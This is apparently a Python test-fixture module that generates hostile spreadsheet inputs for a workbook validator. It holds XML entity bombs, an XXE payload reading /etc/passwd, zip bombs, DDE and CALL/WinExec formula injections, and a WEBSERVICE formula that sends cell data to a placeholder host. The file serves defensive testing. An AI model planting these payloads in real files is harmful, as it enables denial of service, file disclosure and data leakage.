"""A corpus of broken and hostile returns, generated (never stored), one function per kind.

Each kind builds its files in a fresh folder from the seed sample and gives the arguments of a
``perfxl check`` run on them, the exit code it must end with and what it must say: a rule id in
the JSON findings, or a phrase of the Chinese reason (JSON or stderr). ``test_hostile.py`` runs
every kind in its own process under an address-space limit.
"""

from __future__ import annotations

import os
import random
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "sample_workbooks" / "君山区信访局_2020.xlsx"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MiB = 1024 * 1024


def part_of(sheet: str, path: Path = SEED) -> str:
    """The zip member holding the worksheet named ``sheet`` in the seed."""
    import xml.etree.ElementTree as ET

    with zipfile.ZipFile(path) as zf:
        wb = ET.fromstring(zf.read("xl/workbook.xml"))
        rels = ET.fromstring(zf.read("xl/_rels/workbook.xml.rels"))
    rid = next(el.get(f"{{{REL}}}id") for el in wb.iter(f"{{{MAIN}}}sheet") if el.get("name") == sheet)
    target = next(el.get("Target") for el in rels if el.get("Id") == rid)
    return "xl/" + str(target).lstrip("/").removeprefix("xl/")


# Where the seed's cells are (see the field dictionary): an amount input, a label, a text input.
FINANCE = part_of("收支情况")
AMOUNT = (FINANCE, "D7")  # income.org.fiscal
LABEL = (FINANCE, "A7")
NOTE = (part_of("评分表"), "H3")  # I1 扣分原因, a text input
META = part_of("_perfxl")


@dataclass(frozen=True)
class Kind:
    name: str
    build: Callable[[Path], list[str]]  # folder -> arguments after "check"
    rc: int
    says: str  # a rule id (contains ".") found in the findings, or a phrase of the reason / stderr
    file_kind: bool = True  # a bad *file* (consolidation lists it as unusable when rc == 2)


def parts(path: Path = SEED) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_zip(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def seed_with(path: Path, **changes: bytes) -> Path:
    members = parts()
    for key, value in changes.items():
        members[key.replace("__", "/").replace("_dot_", ".")] = value
    return write_zip(path, members)


def with_part(path: Path, name: str, data: bytes) -> Path:
    members = parts()
    members[name] = data
    return write_zip(path, members)


def edit_sheet(path: Path, sheet: str, old: bytes, new: bytes) -> Path:
    members = parts()
    assert old in members[sheet], old
    members[sheet] = members[sheet].replace(old, new, 1)
    return write_zip(path, members)


def cell_xml(sheet: str, ref: str) -> bytes:
    data = parts()[sheet]
    start = data.index(f'<c r="{ref}"'.encode())
    end = data.index(b"</c>", start) + 4
    if data.find(b"/>", start, end) == data.find(b">", start, end) - 1:  # <c .../>
        end = data.index(b">", start) + 1
    return data[start:end]


def set_cell(path: Path, ref_of: tuple[str, str], xml: str) -> Path:
    sheet, ref = ref_of
    return edit_sheet(path, sheet, cell_xml(sheet, ref), xml.encode())


def one(build: Callable[[Path], Path]) -> Callable[[Path], list[str]]:
    return lambda folder: [str(build(folder))]


DOCTYPE_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def entity_in(part: str) -> Callable[[Path], list[str]]:
    def build(folder: Path) -> list[str]:
        data = parts()[part]
        body = data[data.index(b"?>") + 2 :] if data.startswith(b"<?xml") else data
        return [str(with_part(folder / "实体.xlsx", part, DOCTYPE_BOMB + body.replace(b"<", b"&c;<", 0)))]

    return build


def xxe_sheet(folder: Path) -> list[str]:
    sheet = parts()[AMOUNT[0]]
    body = sheet[sheet.index(b"?>") + 2 :]
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body
    return [str(with_part(folder / "外部实体.xlsx", AMOUNT[0], evil))]


def padded(size: int, seed: int) -> bytes:
    """XML comment text that deflates about 7 : 1 (random 0/1 digits)."""
    bits = random.Random(seed).randbytes(size).translate(bytes(48 + (i & 1) for i in range(256)))
    return b"<!-- " + bits + b" -->"


def padded_sheet(sheet: bytes, size: int, seed: int) -> bytes:
    at = sheet.index(b"<sheetData")
    return sheet[:at] + padded(size, seed) + sheet[at:]


def many_large_parts(folder: Path) -> list[str]:
    members = parts()
    sheets = ["收支情况", "评分依据", "绩效自评", "评价人员", "评分表"]
    for i, sheet in enumerate(sheets):  # 7 MB each: each under max_part_size, together over the total
        name = part_of(sheet)
        members[name] = padded_sheet(members[name], 7 * MiB, i)
    return [str(write_zip(folder / "多个大部件.xlsx", members))]


def review_only_parts(folder: Path) -> list[str]:
    members = parts()
    for i in range(5):  # parts only the review copy loads: 35 MB in all
        members[f"xl/drawings/extra{i}.xml"] = b"<r>" + padded(7 * MiB, i) + b"</r>"
    return [str(write_zip(folder / "审核才读的大部件.xlsx", members))]


def ratio_bomb(folder: Path) -> list[str]:
    sheet = parts()[AMOUNT[0]]
    at = sheet.index(b"<sheetData")
    bomb = sheet[:at] + b"<!--" + b" " * (20 * MiB) + b"-->" + sheet[at:]
    return [str(with_part(folder / "压缩炸弹.xlsx", AMOUNT[0], bomb))]


def lying_sizes(folder: Path) -> list[str]:
    """A member of 9 MB whose central directory says it is 100 bytes."""
    members = parts()
    members[AMOUNT[0]] = padded_sheet(members[AMOUNT[0]], 9 * MiB, 7)
    path = write_zip(folder / "谎报大小.xlsx", members)
    return [str(_patch_entry(path, AMOUNT[0], lambda d, at: struct.pack_into("<L", d, at + 24, 100)))]


def too_many_parts(folder: Path) -> list[str]:
    members = parts()
    for i in range(2500):
        members[f"xl/media/x{i}.xml"] = b"<a/>"
    return [str(write_zip(folder / "部件过多.xlsx", members))]


def bzip2_member(folder: Path) -> list[str]:
    path = folder / "bzip2.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in parts().items():
            method = zipfile.ZIP_BZIP2 if name == AMOUNT[0] else zipfile.ZIP_DEFLATED
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return [str(path)]


def _patch_entry(path: Path, member: str, patch: Callable[[bytearray, int], None]) -> Path:
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    while True:
        n = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + n].decode() == member:
            break
        at = data.index(b"PK\x01\x02", at + 4)
    patch(data, at)
    path.write_bytes(bytes(data))
    return path


def encrypted_member(folder: Path) -> list[str]:
    path = shutil.copyfile(SEED, folder / "部件加密.xlsx")
    return [str(_patch_entry(Path(path), AMOUNT[0], lambda d, at: struct.pack_into("<H", d, at + 8, 1)))]


def bad_crc(folder: Path) -> list[str]:
    path = shutil.copyfile(SEED, folder / "校验错.xlsx")
    return [str(_patch_entry(Path(path), AMOUNT[0], lambda d, at: struct.pack_into("<L", d, at + 16, 1234)))]


def overlapping(folder: Path) -> list[str]:
    """Every central-directory entry points at the first member's bytes (a "better zip bomb")."""
    path = Path(shutil.copyfile(SEED, folder / "重叠部件.xlsx"))
    data = bytearray(path.read_bytes())
    at = data.index(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<L", data, at + 42, 0)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    return [str(path)]


def deep_nesting(folder: Path) -> list[str]:
    sheet = parts()[AMOUNT[0]]
    at = sheet.index(b"<sheetData")
    deep = sheet[:at] + b"<x>" * 5000 + b"</x>" * 5000 + sheet[at:]
    return [str(with_part(folder / "嵌套过深.xlsx", AMOUNT[0], deep))]


def malformed(folder: Path) -> list[str]:
    sheet = parts()[AMOUNT[0]]
    return [str(with_part(folder / "XML损坏.xlsx", AMOUNT[0], sheet.replace(b"</row>", b"", 3)))]


def many_strings(folder: Path) -> list[str]:
    rnd = random.Random(3)
    body = b"".join(b"<si><t>%d</t></si>" % rnd.randrange(10**9) for _ in range(150_000))
    sst = f'<?xml version="1.0"?><sst xmlns="{MAIN}">'.encode() + body + b"</sst>"
    return [str(with_part(folder / "字符串过多.xlsx", "xl/sharedStrings.xml", sst))]


def many_rows(folder: Path) -> list[str]:
    rows = b"".join(b'<row r="%d"/>' % r for r in range(100, 100 + 120_000))
    return [str(edit_sheet(folder / "行过多.xlsx", AMOUNT[0], b"</sheetData>", rows + b"</sheetData>"))]


def many_cells(folder: Path) -> list[str]:
    rnd = random.Random(4)
    cells = b"".join(
        b'<row r="%d">' % r + b"".join(b'<c s="%d"/>' % rnd.randrange(1000) for _ in range(100)) + b"</row>"
        for r in range(100, 2200)
    )
    return [str(edit_sheet(folder / "单元格过多.xlsx", AMOUNT[0], b"</sheetData>", cells + b"</sheetData>"))]


def many_sheets(folder: Path) -> list[str]:
    members = parts()
    wb = members["xl/workbook.xml"]
    extra = b"".join(b'<sheet name="X%d" sheetId="%d" r:id="rId1"/>' % (i, 100 + i) for i in range(70))
    members["xl/workbook.xml"] = wb.replace(b"</sheets>", extra + b"</sheets>")
    return [str(write_zip(folder / "工作表过多.xlsx", members))]


def far_cell(folder: Path) -> list[str]:
    row = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    far = edit_sheet(folder / "远处单元格.xlsx", part_of("评价人员"), b"</sheetData>", row + b"</sheetData>")
    return [str(far)]


def sst_out_of_range(folder: Path) -> list[str]:
    old = cell_xml(*LABEL)
    new = old[: old.index(b"<v>")] + b"<v>999999</v></c>"
    return [str(edit_sheet(folder / "字符串越界.xlsx", LABEL[0], old, new))]


def bad_address(folder: Path) -> list[str]:
    """A label cell on a form sheet whose address is not an address (r="foo")."""
    old = cell_xml(*LABEL)
    new = old.replace(f'r="{LABEL[1]}"'.encode(), b'r="foo"', 1)
    return [str(edit_sheet(folder / "地址无效.xlsx", LABEL[0], old, new))]


def value_cell(text: str, name: str, style: str = "") -> Callable[[Path], list[str]]:
    return one(lambda folder: set_cell(folder / name, AMOUNT, f'<c r="D7"{style}><v>{text}</v></c>'))


def formula_cell(formula: str, name: str, where: tuple[str, str] = AMOUNT) -> Callable[[Path], list[str]]:
    ref = where[1]
    return one(lambda folder: set_cell(folder / name, where, f'<c r="{ref}"><f>{formula}</f><v>1</v></c>'))


def date_styled(folder: Path) -> list[str]:
    members = parts()
    styles = members["xl/styles.xml"]
    count = styles.count(b"<xf ", styles.index(b"<cellXfs"), styles.index(b"</cellXfs>"))
    members["xl/styles.xml"] = styles.replace(
        b"</cellXfs>",
        b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" applyNumberFormat="1"/></cellXfs>',
    )
    old = cell_xml(*AMOUNT)
    members[AMOUNT[0]] = members[AMOUNT[0]].replace(old, b'<c r="D7" s="%d"><v>44197</v></c>' % count)
    return [str(write_zip(folder / "日期格式.xlsx", members))]


def external_link(folder: Path) -> list[str]:
    members = parts()
    old = cell_xml(*AMOUNT)
    members[AMOUNT[0]] = members[AMOUNT[0]].replace(old, b'<c r="D7"><f>[1]Sheet1!A1</f><v>256.32</v></c>')
    members["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1"/></externalLink>'.encode()
    )
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + REL.encode() + b'/externalLinkPath" '
        b'Target="file:///C:/Users/x/%E6%9C%AC%E5%9C%B0.xlsx" TargetMode="External"/></Relationships>'
    )
    rels = members["xl/_rels/workbook.xml.rels"]
    members["xl/_rels/workbook.xml.rels"] = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="'
        + REL.encode()
        + b'/externalLink" Target="externalLinks/externalLink1.xml"/>'
        b"</Relationships>",
    )
    return [str(write_zip(folder / "外部链接.xlsx", members))]


def macro_enabled(folder: Path) -> list[str]:
    members = parts()
    members["xl/vbaProject.bin"] = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name = "Module1"\n' * 20
    )
    ct = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    members["[Content_Types].xml"] = ct.replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return [str(write_zip(folder / "带宏.xlsm", members))]


def hostile_texts(folder: Path) -> list[str]:
    members = parts()
    sst = members["xl/sharedStrings.xml"]
    nasty = "=cmd|' /C calc'!A0 \u202e\u200b ☠ " + "长" * 30000
    members["xl/sharedStrings.xml"] = sst.replace(b"</sst>", f"<si><t>{nasty}</t></si></sst>".encode())
    count = sst.count(b"<si>")
    old = cell_xml(*NOTE)
    members[NOTE[0]] = members[NOTE[0]].replace(old, b'<c r="H3" t="s"><v>%d</v></c>' % count)
    basic = part_of("基本概况")
    unit = cell_xml(basic, "C3") if b'r="C3"' in members[basic] else None
    if unit:
        members[basic] = members[basic].replace(
            unit, '<c r="C3" t="inlineStr"><is><t>=HYPERLINK("http://x","点我")</t></is></c>'.encode()
        )
    return [str(write_zip(folder / "恶意文字.xlsx", members))]


def named(name: str) -> Callable[[Path], list[str]]:
    def build(folder: Path) -> list[str]:
        target = folder / name
        shutil.copyfile(SEED, os.fsencode(target) if isinstance(name, bytes) else target)
        return ["--", str(target)] if name.startswith("-") else [str(target)]

    return build


def bad_bytes_name(folder: Path) -> list[str]:
    target = os.path.join(os.fsencode(folder), b"\xff\xfe\xb1\xa8\xb1\xed.xlsx")
    shutil.copyfile(SEED, target)
    return [os.fsdecode(target)]


def fifo(folder: Path) -> list[str]:
    target = folder / "管道.xlsx"
    os.mkfifo(target)
    return [str(target)]


def device(folder: Path) -> list[str]:
    target = folder / "设备.xlsx"
    os.symlink("/dev/zero", target)
    return [str(target)]


def folder_named_like_workbook(folder: Path) -> list[str]:
    target = folder / "报表.xlsx"
    target.mkdir()
    return [str(target)]


def sparse_huge(folder: Path) -> list[str]:
    target = folder / "超大.xlsx"
    with open(target, "wb") as fh:
        fh.truncate(40 * MiB)
    return [str(target)]


def out_dir_is_a_file(folder: Path) -> list[str]:
    blocker = folder / "输出"
    blocker.write_text("不是文件夹", encoding="utf-8")
    src = shutil.copyfile(SEED, folder / "好.xlsx")
    return ["--out-dir", str(blocker / "审核"), str(src)]


def same_file_twice(folder: Path) -> list[str]:
    src = shutil.copyfile(SEED, folder / "两次.xlsx")
    return [str(src), str(src)]


def meta_cell(folder: Path, name: str, key: str, value: str) -> list[str]:
    members = parts()
    sheet = META
    data = members[sheet]
    sst = members["xl/sharedStrings.xml"]
    strings = sst.split(b"<si>")[1:]
    idx = next(i for i, s in enumerate(strings) if f"<t>{key}</t>".encode() in s)
    at = data.index(b"<v>%d</v>" % idx)
    row = data[data.rindex(b"<row", 0, at) : data.index(b"</row>", at)]
    b_cell = row[row.index(b'<c r="B') :]
    members[sheet] = data.replace(
        b_cell,
        b_cell[: b_cell.index(b">") + 1].replace(b' t="s"', b"").replace(b">", b' t="inlineStr">')
        + f"<is><t>{value}</t></is></c>".encode(),
        1,
    )
    members["docProps/custom.xml"] = (
        b'<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>'
    )
    return [str(write_zip(folder / name, members))]


def encrypted(folder: Path) -> list[str]:
    from msoffcrypto.format.ooxml import OOXMLFile

    target = folder / "加密.xlsx"
    with open(SEED, "rb") as src, open(target, "wb") as out:
        OOXMLFile(src).encrypt("secret", out)
    return [str(target)]


def raw(name: str, data: bytes) -> Callable[[Path], list[str]]:
    def build(folder: Path) -> list[str]:
        (folder / name).write_bytes(data)
        return [str(folder / name)]

    return build


KINDS = [
    Kind("empty", raw("空.xlsx", b""), 2, "空"),
    Kind("text-renamed", raw("文本.xlsx", "单位名称,信访局\n".encode()), 2, "不是 zip"),
    Kind("truncated", raw("半截.xlsx", SEED.read_bytes()[:20000]), 2, "不完整"),
    Kind("random-bytes", raw("乱码.xlsx", random.Random(1).randbytes(5000)), 2, "不是 zip"),
    Kind(
        "zip-without-workbook",
        one(lambda f: write_zip(f / "压缩包.xlsx", {"a.txt": b"x"})),
        2,
        "workbook.xml",
    ),
    Kind("pdf-renamed", raw("报告.xlsx", b"%PDF-1.7\n" + b"0" * 100), 2, "PDF"),
    Kind("html-as-xls", raw("导出.xls", b"<html><table><tr><td>1</td></tr></table></html>"), 2, "网页"),
    Kind("ole-junk", raw("旧.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)), 2, ".xls"),
    Kind("encrypted", encrypted, 2, "密码"),
    Kind("ratio-bomb", ratio_bomb, 2, "max_ratio"),
    Kind("lying-sizes", lying_sizes, 2, "max_part_size"),
    Kind("parts-under-cap-over-total", many_large_parts, 2, "max_total_size"),
    Kind("review-only-parts", review_only_parts, 2, "max_total_size", file_kind=False),
    Kind("too-many-parts", too_many_parts, 2, "max_parts"),
    Kind("bzip2-member", bzip2_member, 2, "压缩方式"),
    Kind("encrypted-member", encrypted_member, 2, "加密"),
    Kind("bad-crc", bad_crc, 2, "校验"),
    Kind("overlapping-members", overlapping, 2, "文件头"),
    Kind("entities-shared-strings", entity_in("xl/sharedStrings.xml"), 2, "DTD"),
    Kind("entities-workbook", entity_in("xl/workbook.xml"), 2, "DTD"),
    Kind("entities-rels", entity_in("xl/_rels/workbook.xml.rels"), 2, "DTD"),
    Kind("entities-custom", entity_in("docProps/custom.xml"), 2, "DTD"),
    Kind("entities-styles", entity_in("xl/styles.xml"), 2, "DTD"),
    Kind("entities-theme-review-only", entity_in("xl/theme/theme1.xml"), 2, "DTD", file_kind=False),
    Kind("external-entity-sheet", xxe_sheet, 2, "DTD"),
    Kind("deep-nesting", deep_nesting, 2, "嵌套过深"),
    Kind("malformed-xml", malformed, 2, "XML 已损坏"),
    Kind("many-shared-strings", many_strings, 2, "max_shared_strings"),
    Kind("many-rows", many_rows, 2, "max_rows"),
    Kind("many-cells", many_cells, 2, "max_cells"),
    Kind("many-sheets", many_sheets, 2, "max_sheets"),
    Kind("far-away-cell", far_cell, 1, "score.P3", file_kind=False),
    Kind("shared-string-out-of-range", sst_out_of_range, 2, "越界"),
    Kind("cell-address-invalid", bad_address, 2, "不是有效的 A1 地址"),
    Kind("nan-in-amount", value_cell("NaN", "NaN.xlsx"), 1, "input.invalid", file_kind=False),
    Kind("infinity-in-amount", value_cell("1e999", "无穷.xlsx"), 1, "input.invalid", file_kind=False),
    Kind("date-formatted-amount", date_styled, 1, "input.date", file_kind=False),
    Kind("dde-formula", formula_cell("cmd|' /C calc'!A0", "DDE.xlsx"), 1, "input.formula_dangerous", False),
    Kind("external-reference", external_link, 1, "input.formula_dangerous", file_kind=False),
    Kind(
        "webservice",
        formula_cell('WEBSERVICE("http://x/?"&amp;A1)', "网络.xlsx"),
        1,
        "input.formula_dangerous",
        False,
    ),
    Kind(
        "hyperlink-formula",
        formula_cell('HYPERLINK("http://x","点")', "链接.xlsx"),
        1,
        "input.formula_dangerous",
        False,
    ),
    Kind(
        "call-register",
        formula_cell('CALL("kernel32","WinExec","JCJ","calc",0)', "调用.xlsx"),
        1,
        "input.formula_dangerous",
        False,
    ),
    Kind("plain-formula", formula_cell("200+56.32", "公式.xlsx"), 1, "input.formula", file_kind=False),
    Kind(
        "dangerous-formula-in-label",
        formula_cell('RTD("x",,"y")', "标签.xlsx", LABEL),
        1,
        "formula.dangerous",
        False,
    ),
    Kind("macro-enabled", macro_enabled, 1, "file.macros", file_kind=False),
    Kind("hostile-texts", hostile_texts, 1, "score.P3", file_kind=False),
    Kind("long-file-name", named("长" * 78 + ".xlsx"), 1, "score.P3", file_kind=False),
    Kind("leading-dash-name", named("-报表.xlsx"), 1, "score.P3", file_kind=False),
    Kind("quotes-and-spaces", named("单位 '报表' \"最终\" 版.xlsx"), 1, "score.P3", file_kind=False),
    Kind("non-utf8-name", bad_bytes_name, 1, "score.P3", file_kind=False),
    Kind("fifo", fifo, 2, "不是普通文件"),
    Kind("device-symlink", device, 2, "不是普通文件"),
    Kind("folder-named-like-workbook", folder_named_like_workbook, 2, "文件夹", file_kind=False),
    Kind("sparse-huge-file", sparse_huge, 2, "max_file_size"),
    Kind("out-dir-is-a-file", out_dir_is_a_file, 2, "无法写出审核副本", file_kind=False),
    Kind("same-file-twice", same_file_twice, 1, "score.P3", file_kind=False),
    Kind(
        "options-deeply-nested", lambda f: meta_cell(f, "嵌套.xlsx", "options", "[" * 100000), 2, "模板选项"
    ),
    Kind(
        "options-huge-counts",
        lambda f: meta_cell(f, "行数.xlsx", "options", '{"sub_units": 1e308}'),
        2,
        "模板选项",
    ),
]
